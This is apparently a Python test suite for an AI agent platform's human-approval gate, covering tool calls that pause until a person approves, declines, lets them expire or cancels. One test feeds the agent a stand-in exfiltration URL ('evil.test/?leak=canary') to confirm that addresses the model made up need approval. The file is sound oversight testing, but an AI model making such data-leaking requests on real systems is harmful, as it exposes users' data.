"""A call that matters waits for a person, durably, and does exactly what was agreed to."""

import asyncio
from datetime import timedelta

from sqlalchemy import update

from app.agents.runtime.models import ToolApproval
from app.agents.tools.tool import ToolTraits
from app.core.clock import now
from app.core.db import SYSTEM
from tests.support.chat import Talker
from tests.support.identity import new_person
from tests.support.runs import until

WRITES = ToolTraits("external", approval="always")


async def _paused(agency, **definition):
    pay = agency.bench.add("pay", traits=WRITES, answer="paid")
    agent = await agency.make(tools=[{"tool": "test:pay", **definition}])
    agency.calls(("pay", {"q": "10 USD"}))
    run = await agency.run(agent)
    return pay, run


async def _decide(agency, approval, decision, note=""):
    body = {"decision": decision, "note": note}
    return await agency.talker.call("POST", f"/v1/approvals/{approval['id']}", json=body)


async def test_a_run_waits_and_goes_on_once_someone_agrees(agency):
    pay, run = await _paused(agency)
    assert (run["status"], pay.calls) == ("paused", [])
    [approval] = await agency.get(f"/v1/runs/{run['id']}/approvals")
    assert (approval["tool"], approval["arguments"]) == ("pay", {"q": "10 USD"})
    assert approval["reason"] == "always"
    agency.says("It is paid.")
    assert (await _decide(agency, approval, "approve")).status_code == 200
    ended = await agency.ended(run["id"])
    assert (ended["status"], ended["text"]) == ("completed", "It is paid.")
    assert [arguments for _, arguments in pay.calls] == [{"q": "10 USD"}]
    types = (await agency.events(run["id"])).types
    assert types.count("tool.call") == types.count("tool.approval_required") == 1
    assert types.count("run.paused") == types.count("run.resumed") == 1


async def test_the_model_hears_of_a_refusal(agency):
    pay, run = await _paused(agency)
    [approval] = await agency.get(f"/v1/runs/{run['id']}/approvals")
    agency.says("Then not.")
    await _decide(agency, approval, "decline", "Too much.")
    ended = await agency.ended(run["id"])
    assert (ended["text"], pay.calls) == ("Then not.", [])
    assert "Too much." in agency.fake.last.body["messages"][-1]["content"]


async def test_it_is_decided_once(agency):
    _, run = await _paused(agency)
    [approval] = await agency.get(f"/v1/runs/{run['id']}/approvals")
    agency.says("Done.")
    both = await asyncio.gather(
        _decide(agency, approval, "approve"), _decide(agency, approval, "decline")
    )
    assert sorted(each.status_code for each in both) == [200, 409]
    await agency.ended(run["id"])


async def test_others_of_the_same_step_are_done_before_it_waits(agency):
    look = agency.bench.add("look", answer="seen")
    pay = agency.bench.add("pay", traits=WRITES, answer="paid")
    agent = await agency.make(tools=[{"tool": "test:look"}, {"tool": "test:pay"}])
    agency.calls(("pay", {"q": "1"}), ("look", {"q": "2"}), ("pay", {"q": "3"}))
    run = await agency.run(agent)
    assert (run["status"], len(look.calls)) == ("paused", 1)
    first, second = await agency.get(f"/v1/runs/{run['id']}/approvals")
    assert (first["arguments"], second["arguments"]) == ({"q": "1"}, {"q": "3"})
    await _decide(agency, first, "approve")
    await until(lambda: pay.calls)
    agency.says("All done.")
    await _decide(agency, second, "approve")
    ended = await agency.ended(run["id"])
    assert ended["text"] == "All done."
    assert [arguments["q"] for _, arguments in pay.calls] == ["1", "3"]
    assert len(look.calls) == 1


async def test_a_definition_may_ask_by_rule(agency):
    rule = {"when": {"properties": {"q": {"pattern": "secret"}}}}
    look = agency.bench.add("look", answer="seen")
    agent = await agency.make(tools=[{"tool": "test:look", "approval": rule}])
    agency.calls(("look", {"q": "public"}))
    agency.calls(("look", {"q": "the secret one"}))
    run = await agency.run(agent)
    assert (run["status"], len(look.calls)) == ("paused", 1)


async def test_a_rule_that_cannot_be_told_in_time_asks(agency):
    rule = {"when": {"properties": {"q": {"items": {"allOf": [{"maximum": 0}] * 2000}}}}}
    look = agency.bench.add("look", parameters={"type": "object"}, answer="seen")
    agent = await agency.make(tools=[{"tool": "test:look", "approval": rule}])
    agency.calls(("look", {"q": [1] * 10}))
    agency.calls(("look", {"q": [1] * 5000}))
    run = await agency.run(agent)
    assert (run["status"], len(look.calls)) == ("paused", 1)


async def test_a_definition_may_waive_it(agency):
    pay = agency.bench.add("pay", traits=WRITES, answer="paid")
    agent = await agency.make(tools=[{"tool": "test:pay", "approval": "never"}])
    agency.calls(("pay", {"q": "10 USD"}))
    agency.says("Paid.")
    assert (await agency.run(agent))["text"] == "Paid."
    assert len(pay.calls) == 1


async def test_addresses_that_the_model_made_up_need_a_person(agency):
    traits = ToolTraits("read", approval="unseen_url")
    fetch = agency.bench.add("fetch", traits=traits, answer="see http://found.test/next")
    agent = await agency.make(tools=[{"tool": "test:fetch"}])
    agency.calls(("fetch", {"q": "http://given.test/page"}))
    agency.calls(("fetch", {"q": "http://found.test/next"}))
    agency.calls(("fetch", {"q": "http://evil.test/?leak=canary"}))
    run = await agency.run(agent, "Read http://given.test/page for me.")
    assert (run["status"], len(fetch.calls)) == ("paused", 2)
    [approval] = await agency.get(f"/v1/runs/{run['id']}/approvals")
    assert approval["reason"] == "unseen_url"


async def test_strangers_see_and_decide_nothing(agency, client):
    _, run = await _paused(agency)
    [approval] = await agency.get(f"/v1/runs/{run['id']}/approvals")
    stranger = Talker(client, await new_person(client))
    body = {"decision": "approve"}
    answer = await stranger.call("POST", f"/v1/approvals/{approval['id']}", json=body)
    assert answer.status_code == 404
    assert (await stranger.call("GET", "/v1/approvals")).json()["data"] == []
    assert (await stranger.call("GET", f"/v1/runs/{run['id']}/steps")).status_code == 404


async def test_an_agent_below_waits_and_the_whole_tree_with_it(agency):
    pay = agency.bench.add("pay", traits=WRITES, answer="paid")
    worker = await agency.make("Worker", tools=[{"tool": "test:pay"}])
    agent = await agency.make("Chief", agents=[worker["slug"]])
    name = f"ask_{worker['slug']}".replace("-", "_")
    agency.calls((name, {"task": "Pay."}))
    agency.calls(("pay", {"q": "1"}))
    run = await agency.run(agent)
    assert run["status"] == "paused"
    [approval] = await agency.get("/v1/runs/" + run["id"] + "/approvals")
    assert approval["agent"] == worker["slug"]
    agency.says("Worker: paid.", "Chief: paid.")
    await _decide(agency, approval, "approve")
    ended = await agency.ended(run["id"])
    assert (ended["text"], len(pay.calls)) == ("Chief: paid.", 1)


async def test_a_paused_run_can_be_cancelled(agency):
    _, run = await _paused(agency)
    await agency.talker.call("POST", f"/v1/runs/{run['id']}/cancel")
    assert (await agency.ended(run["id"]))["status"] == "cancelled"


async def test_what_nobody_decides_is_declined_in_time(agency, app, kernel):
    pay, run = await _paused(agency)
    [approval] = await agency.get(f"/v1/runs/{run['id']}/approvals")
    async with kernel.database.unit(SYSTEM) as session:
        await session.execute(
            update(ToolApproval)
            .where(ToolApproval.id == approval["id"])
            .values(expires_at=now() - timedelta(seconds=1))
        )
    agency.says("Nobody answered.")
    [job] = [each for each in app.state.agents.jobs if each.name == "approvals"]
    await job.run()
    ended = await agency.ended(run["id"])
    assert (ended["text"], pay.calls) == ("Nobody answered.", [])
    assert "approval_expired" in agency.fake.last.body["messages"][-1]["content"]


async def test_a_cancelled_run_asks_nobody_any_more(agency):
    pay, run = await _paused(agency)
    [approval] = await agency.get(f"/v1/runs/{run['id']}/approvals")
    await agency.talker.call("POST", f"/v1/runs/{run['id']}/cancel")
    await agency.ended(run["id"])
    assert (await agency.get("/v1/approvals?status=pending"))["data"] == []
    answer = await _decide(agency, approval, "approve")
    assert (answer.status_code, answer.json()["code"]) == (409, "approval_decided")
    assert pay.calls == []
